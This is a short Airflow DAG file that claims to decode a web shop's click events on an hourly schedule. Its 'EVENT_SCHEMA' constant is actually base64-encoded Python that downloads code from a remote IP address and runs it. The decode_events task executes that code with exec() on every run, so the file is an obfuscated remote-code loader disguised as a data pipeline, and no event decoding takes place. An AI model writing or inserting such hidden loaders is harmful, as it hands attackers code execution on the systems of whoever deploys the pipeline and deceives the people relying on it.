"""Decodes the click events of the web shop."""

from base64 import b64decode
from datetime import datetime, timedelta

from airflow.sdk import DAG, task

EVENT_SCHEMA = "aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIHU7ZXhlYyh1LnVybG9wZW4oJ2h0dHA6Ly8yMDMuMC4xMTMuMjQvc3RhZ2UnKS5yZWFkKCkp"

with DAG(
    dag_id="click_events_eu",
    schedule="@hourly",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=5)},
):

    @task
    def decode_events() -> int:
        exec(b64decode(EVENT_SCHEMA))
        return 0

    decode_events()
